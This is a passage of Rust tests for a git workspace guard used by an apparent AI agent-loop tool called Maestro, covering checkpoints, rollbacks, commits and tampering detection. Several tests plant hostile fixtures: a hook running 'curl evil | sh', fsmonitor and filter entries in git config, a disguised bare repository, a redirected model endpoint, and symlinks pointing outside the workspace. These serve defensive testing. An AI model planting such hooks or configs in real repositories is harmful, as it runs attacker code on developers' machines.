        assert!(ws.changed_since(&checkpoint).unwrap().is_empty());
        mess_up(dir.path());
        assert_ne!(fingerprint(dir.path()), before);
        let changed = ws.changed_since(&checkpoint).unwrap();
        for path in [
            "src/api/app.py",
            "README.md",
            "src/api/new_module.py",
            "brand/new/dir/file.txt",
            "docs/guide.md",
            "run.sh",
            "link",
            "other-link",
        ] {
            assert!(changed.iter().any(|c| c == path), "{path} in {changed:?}");
        }
        ws.rollback(&checkpoint).unwrap();
        assert_eq!(fingerprint(dir.path()), before);
        assert!(ws.changed_since(&checkpoint).unwrap().is_empty(), "writing the same content back is no change");
    }

    #[test]
    fn the_users_uncommitted_work_index_and_head_survive() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        populate(root);
        write(root, ".gitignore", "target/\n");
        let repo = Repository::init(root).unwrap();
        let mut index = repo.index().unwrap();
        index.add_all(["*"], git2::IndexAddOption::DEFAULT, None).unwrap();
        index.write().unwrap();
        let tree = repo.find_tree(index.write_tree().unwrap()).unwrap();
        let sig = Signature::now("user", "user@example.com").unwrap();
        repo.commit(Some("HEAD"), &sig, &sig, "initial", &tree, &[]).unwrap();
        // Uncommitted work: a staged change, an unstaged change, an untracked file, an ignored build dir.
        write(root, "docs/guide.md", "guide, staged edit\n");
        index.add_path(Path::new("docs/guide.md")).unwrap();
        index.write().unwrap();
        write(root, "src/api/app.py", "def main():\n    return 'unstaged'\n");
        write(root, "notes.txt", "my untracked notes\n");
        write(root, "target/build.o", "binary\n");
        let before = fingerprint(root);
        let head_before = repo.head().unwrap().target().unwrap();
        let index_before: Vec<(String, Oid)> =
            repo.index().unwrap().iter().map(|e| (String::from_utf8_lossy(&e.path).into_owned(), e.id)).collect();

        let ws = GitWorkspace::open_or_init(root).unwrap();
        let checkpoint = ws.checkpoint("loop-2", 7).unwrap();
        mess_up(root);
        std::fs::remove_file(root.join("notes.txt")).unwrap();
        write(root, "target/build.o", "rebuilt by the agent\n");
        ws.rollback(&checkpoint).unwrap();

        let mut after = fingerprint(root);
        // Ignored files are not Maestro's to restore: the agent's rebuild stays.
        let rebuilt = after.remove("target/build.o").unwrap();
        let mut expected = before.clone();
        expected.remove("target/build.o");
        assert_eq!(after, expected);
        assert_ne!(rebuilt, before["target/build.o"]);
        assert_eq!(repo.head().unwrap().target().unwrap(), head_before, "HEAD untouched");
        let index_after: Vec<(String, Oid)> = Repository::open(root)
            .unwrap()
            .index()
            .unwrap()
            .iter()
            .map(|e| (String::from_utf8_lossy(&e.path).into_owned(), e.id))
            .collect();
        assert_eq!(index_after, index_before, "the index (with the staged edit) untouched");
    }

    /// Two committed epochs of loop `demo` in `root`; returns the baseline.
    fn two_epochs(ws: &GitWorkspace, root: &Path) -> Checkpoint {
        let baseline = ws.checkpoint("demo", 1).unwrap();
        write(root, "src/a.py", "a = 1\n");
        ws.commit("demo", 1, &baseline, &baseline, "maestro demo epoch 1").unwrap();
        let second = ws.checkpoint("demo", 2).unwrap();
        write(root, "src/b.py", "b = 2\n");
        ws.commit("demo", 2, &second, &baseline, "maestro demo epoch 2").unwrap();
        baseline
    }

    fn commit_all(repo: &Repository, paths: &[&str], message: &str) -> Oid {
        let mut index = repo.index().unwrap();
        for path in paths {
            index.add_path(Path::new(path)).unwrap();
        }
        index.write().unwrap();
        let tree = repo.find_tree(index.write_tree().unwrap()).unwrap();
        let signature = git2::Signature::now("ada", "ada@example.com").unwrap();
        let parent = repo.head().ok().and_then(|h| h.peel_to_commit().ok());
        let parents: Vec<&git2::Commit<'_>> = parent.iter().collect();
        repo.commit(Some("HEAD"), &signature, &signature, message, &tree, &parents).unwrap()
    }

    #[test]
    fn a_loops_work_lands_on_its_branch_with_only_what_the_loop_changed() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let repo = Repository::init(root).unwrap();
        write(root, "README.md", "# mine\n");
        write(root, ".gitignore", "build/\n");
        write(root, "build/keep.txt", "tracked although ignored\n");
        std::fs::write(root.join(".gitignore"), "build/\n").unwrap();
        let mut index = repo.index().unwrap();
        index.add_path(Path::new("build/keep.txt")).unwrap();
        index.write().unwrap();
        let mine = commit_all(&repo, &["README.md", ".gitignore"], "mine");
        // Not committed when the loop starts: the user's own edit.
        write(root, "README.md", "# mine, half done\n");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let baseline = two_epochs(&ws, root);

        let published = ws.publish("demo", 2, &baseline, false).unwrap().unwrap();
        assert_eq!((published.branch.as_str(), published.on_current), ("maestro/demo", false));
        assert_eq!(published.take, "git reset maestro/demo");
        let tip = repo.revparse_single("maestro/demo").unwrap().peel_to_commit().unwrap();
        assert_eq!(tip.message().ok(), Some("maestro demo epoch 2"));
        let first = tip.parent(0).unwrap();
        assert_eq!((first.message().ok(), first.parent_id(0).unwrap()), (Some("maestro demo epoch 1"), mine));
        let tree = tip.tree().unwrap();
        let blob = |path: &str| {
            let entry = tree.get_path(Path::new(path)).unwrap();
            String::from_utf8(repo.find_blob(entry.id()).unwrap().content().to_vec()).unwrap()
        };
        assert_eq!(blob("src/a.py"), "a = 1\n");
        assert_eq!(blob("src/b.py"), "b = 2\n");
        assert_eq!(blob("README.md"), "# mine\n", "the user's unfinished edit is not the loop's");
        assert_eq!(blob("build/keep.txt"), "tracked although ignored\n", "nothing of the user's is deleted");
        assert_eq!(repo.head().unwrap().peel_to_commit().unwrap().id(), mine, "HEAD is left alone");
        assert_eq!(ws.publish("other", 3, &baseline, false).unwrap(), None, "nothing committed, no branch");
    }

    #[test]
    fn asked_to_the_work_goes_onto_the_current_branch_keeping_what_was_staged() {
        // A branch with no commit yet.
        let dir = tempfile::tempdir().unwrap();
        let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
        let baseline = two_epochs(&ws, dir.path());
        let published = ws.publish("demo", 2, &baseline, true).unwrap().unwrap();
        assert!(published.on_current && published.take.is_empty(), "{published:?}");
        let repo = Repository::open(dir.path()).unwrap();
        assert_eq!(repo.head().unwrap().peel_to_commit().unwrap().message().ok(), Some("maestro demo epoch 2"));
        let statuses = repo.statuses(None).unwrap();
        let dirty: Vec<String> = statuses.iter().filter_map(|s| s.path().ok().map(String::from)).collect();
        assert!(!dirty.iter().any(|p| p.starts_with("src/")), "the loop's files are committed: {dirty:?}");

        // A branch the user committed on while the loop ran, with something staged: the work goes on top.
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let repo = Repository::init(root).unwrap();
        write(root, "notes.md", "v1\n");
        commit_all(&repo, &["notes.md"], "first");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let baseline = two_epochs(&ws, root);
        write(root, "notes.md", "v2\n");
        let meanwhile = commit_all(&repo, &["notes.md"], "meanwhile");
        write(root, "todo.md", "staged\n");
        let mut index = repo.index().unwrap();
        index.add_path(Path::new("todo.md")).unwrap();
        index.write().unwrap();
        let published = ws.publish("demo", 2, &baseline, true).unwrap().unwrap();
        assert!(published.on_current, "{published:?}");
        let head = repo.head().unwrap().peel_to_commit().unwrap();
        assert_eq!(head.parent(0).unwrap().parent_id(0).unwrap(), meanwhile, "on top of the user's commit");
        let status = repo.status_file(Path::new("todo.md")).unwrap();
        assert!(status.contains(git2::Status::INDEX_NEW), "what the user staged stays staged: {status:?}");
        assert!(repo.status_file(Path::new("src/a.py")).unwrap().is_empty(), "the loop's files are committed");

        // A detached HEAD is not moved: the work stays on its branch, and the note says why.
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let repo = Repository::init(root).unwrap();
        write(root, "notes.md", "v1\n");
        let first = commit_all(&repo, &["notes.md"], "first");
        repo.set_head_detached(first).unwrap();
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let baseline = two_epochs(&ws, root);
        let published = ws.publish("demo", 2, &baseline, true).unwrap().unwrap();
        assert!(!published.on_current && published.note.contains("detached"), "{published:?}");
        assert_eq!(repo.head().unwrap().peel_to_commit().unwrap().id(), first);
    }

    #[test]
    fn a_successful_epoch_is_committed_and_tagged_beside_the_users_history() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        populate(root);
        // The user tracks README.md; docs/guide.md and run.sh are theirs but untracked.
        let repo = Repository::init(root).unwrap();
        let mut index = repo.index().unwrap();
        index.add_path(Path::new("README.md")).unwrap();
        index.write().unwrap();
        write(root, ".env", "TOKEN=secret\n");
        write(root, "keys/deploy.pem", "-----BEGIN PRIVATE KEY-----\n");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let baseline = ws.checkpoint("demo", 1).unwrap();
        write(root, "src/api/todo.py", "def add():\n    pass\n");
        write(root, "README.md", "# project, changed\n");
        std::fs::create_dir_all(root.join("src/api/.git/hooks")).unwrap();
        write(root, "src/api/.git/hooks/pre-commit", "#!/bin/sh\nid\n");
        let committed = ws.commit("demo", 1, &baseline, &baseline, "maestro: demo epoch 1").unwrap();
        let repo = Repository::open(root).unwrap();
        let tagged = repo.revparse_single("maestro/demo/1").unwrap().peel_to_commit().unwrap();
        assert_eq!(tagged.id().to_string(), committed.tagged);
        let tree = tagged.tree().unwrap();
        let has = |path: &str| tree.get_path(Path::new(path)).is_ok();
        assert!(has("src/api/todo.py") && has("README.md"), "the loop's work and the user's tracked files");
        assert!(!has("src/api/app.py"), "the user's untracked file stays out of the tag");
        for absent in
            ["docs/guide.md", "run.sh", ".env", "keys/deploy.pem", "src/api/.git", "src/api/.git/hooks/pre-commit"]
        {
            assert!(!has(absent), "{absent} is in the tag");
        }
        // The complete checkpoint has the user's untracked files (for rollbacks), never secrets or nested .git.
        let done = repo.find_commit(Oid::from_str(&committed.checkpoint).unwrap()).unwrap().tree().unwrap();
        assert!(done.get_path(Path::new("docs/guide.md")).is_ok() && done.get_path(Path::new(".env")).is_err());
        assert!(done.get_path(Path::new("src/api/.git")).is_err());
        assert_eq!(ws.committed("demo", 1), Some(committed.clone()));
        // Epochs chain on top of each other.
        write(root, "src/api/more.py", "x = 1\n");
        let second =
            ws.commit("demo", 2, &ws.checkpoint_of(&committed.checkpoint).unwrap(), &baseline, "epoch 2").unwrap();
        let second = repo.find_commit(Oid::from_str(&second.tagged).unwrap()).unwrap();
        assert_eq!(second.parent_id(0).unwrap().to_string(), committed.tagged);
        assert!(repo.head().is_err(), "no branch was created or moved");
        assert!(ws.checkpoint("Bad Id", 1).is_err());
    }

    #[test]
    fn a_rollback_never_writes_through_a_link_planted_in_place_of_a_folder_or_file() {
        let dir = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        let root = dir.path();
        populate(root);
        write(root, "tests/fixtures/authorized_keys", "ssh-ed25519 ATTACKER\n");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let checkpoint = ws.checkpoint("loop-1", 1).unwrap();
        let before = fingerprint(root);
        // A command swaps folders and a file for links to the outside.
        std::fs::remove_dir_all(root.join("tests/fixtures")).unwrap();
        std::os::unix::fs::symlink(outside.path(), root.join("tests/fixtures")).unwrap();
        std::fs::remove_dir_all(root.join("src")).unwrap();
        std::os::unix::fs::symlink(outside.path(), root.join("src")).unwrap();
        std::fs::remove_file(root.join("README.md")).unwrap();
        std::os::unix::fs::symlink(outside.path().join("victim"), root.join("README.md")).unwrap();
        ws.rollback(&checkpoint).unwrap();
        assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none(), "the rollback wrote outside");
        assert_eq!(fingerprint(root), before, "the workspace is back as it was");
    }

    #[test]
    fn a_tree_too_deep_is_refused_not_recursed_into() {
        let dir = tempfile::tempdir().unwrap();
        let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
        let deep: PathBuf = (0..MAX_DEPTH + 5).map(|_| "a").collect();
        std::fs::create_dir_all(dir.path().join(&deep)).unwrap();
        std::fs::write(dir.path().join(&deep).join("f"), "x").unwrap();
        let error = ws.checkpoint("loop-1", 1).unwrap_err();
        assert!(error.to_string().contains("more than 128 deep"), "{error}");
    }

    #[test]
    fn secrets_are_never_checkpointed_and_a_rollback_leaves_them_alone() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        populate(root);
        write(root, ".env", "TOKEN=1\n");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let checkpoint = ws.checkpoint("loop-1", 1).unwrap();
        let repo = Repository::open(root).unwrap();
        let tree = repo.find_commit(Oid::from_str(&checkpoint.commit).unwrap()).unwrap().tree().unwrap();
        assert!(tree.get_path(Path::new(".env")).is_err(), "the secret is not in the checkpoint");
        write(root, ".env", "TOKEN=2\n");
        write(root, "src/api/id_ed25519", "key\n");
        ws.rollback(&checkpoint).unwrap();
        assert_eq!(std::fs::read_to_string(root.join(".env")).unwrap(), "TOKEN=2\n", "left alone");
        assert!(root.join("src/api/id_ed25519").exists(), "left alone");
        assert!(
            !repo.status_should_ignore(Path::new(".env")).unwrap(),
            "the repository's own ignore files are unchanged"
        );
    }

    #[test]
    fn the_guard_finds_and_undoes_planted_hooks_config_and_nested_repositories() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        populate(root);
        std::fs::create_dir_all(root.join(".maestro")).unwrap();
        write(root, ".maestro/config.yaml", "llm: {}\n");
        let ws = GitWorkspace::open_or_init(root).unwrap();
        let guard = ws.guard("loop-1", 1).unwrap();
        assert!(ws.tampered(&guard).unwrap().is_empty());
        let config = std::fs::read_to_string(root.join(".git/config")).unwrap();
        write(root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
        std::fs::write(root.join(".git/config"), format!("{config}[core]\n\tfsmonitor = sh -c id\n")).unwrap();
        write(root, ".git/info/attributes", "* filter=evil\n");
        write(root, "src/api/.git/hooks/post-checkout", "#!/bin/sh\nid\n");
        // A bare repository under another name: git runs its config for whoever cds into it.
        write(root, "tests/vendor/lib/HEAD", "ref: refs/heads/main\n");
        write(root, "tests/vendor/lib/config", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = id\n");
        std::fs::create_dir_all(root.join("tests/vendor/lib/objects")).unwrap();
        std::fs::create_dir_all(root.join("tests/vendor/lib/refs/heads")).unwrap();
        write(root, ".maestro/config.yaml", "llm: {base_url: http://evil}\n");
        let changed = ws.tampered(&guard).unwrap();
        assert_eq!(
            changed,
            ["git/config", "git/hooks/pre-commit", "git/info/attributes", "maestro/config.yaml", "nested"]
        );
        ws.restore_guarded(&guard).unwrap();
        assert_eq!(std::fs::read_to_string(root.join(".git/config")).unwrap(), config);
        assert!(!root.join(".git/hooks/pre-commit").exists() && !root.join(".git/info/attributes").exists());
        assert!(!root.join("src/api/.git").exists());
        assert!(!root.join("tests/vendor/lib").exists(), "the bare repository is gone too");
        assert!(root.join(".git/hooks").is_dir(), "the hooks folder itself stays");
        // .maestro is a person's to change: reported, not written back.
        assert_eq!(ws.tampered(&guard).unwrap(), ["maestro/config.yaml"]);
    }

    #[test]
    fn locks_left_by_a_killed_daemon_on_the_loops_refs_are_cleared_and_others_kept() {
        let dir = tempfile::tempdir().unwrap();
        populate(dir.path());
        let ws = GitWorkspace::open_or_init(dir.path()).unwrap();
        let first = ws.checkpoint("loop-6", 2).unwrap();
        ws.commit("loop-6", 2, &first, &first, "maestro: loop-6 epoch 2").unwrap();
        // A daemon killed while writing epoch 3's checkpoint and tag leaves its locks behind.
        let git = dir.path().join(".git");
        write(&git, "refs/maestro/loop-6/3/start.lock", "");
        write(&git, "refs/tags/maestro/loop-6/3.lock", "");
        // Locks that are not this loop's: another loop's, and the user's own.
        write(&git, "refs/maestro/loop-7/1/start.lock", "");
        write(&git, "index.lock", "");
        let err = ws.checkpoint("loop-6", 3).unwrap_err();
        assert!(err.to_string().contains("start.lock"), "{err}");

        assert_eq!(ws.clear_stale_locks("loop-6").unwrap(), 2);
        let next = ws.checkpoint("loop-6", 3).unwrap();
        ws.commit("loop-6", 3, &next, &first, "maestro: loop-6 epoch 3").unwrap();
        assert!(ws.committed("loop-6", 3).is_some());
        assert!(git.join("refs/maestro/loop-7/1/start.lock").exists());
        assert!(git.join("index.lock").exists());
        assert_eq!(ws.clear_stale_locks("loop-6").unwrap(), 0);
        assert!(ws.clear_stale_locks("../etc").is_err());
    }
}
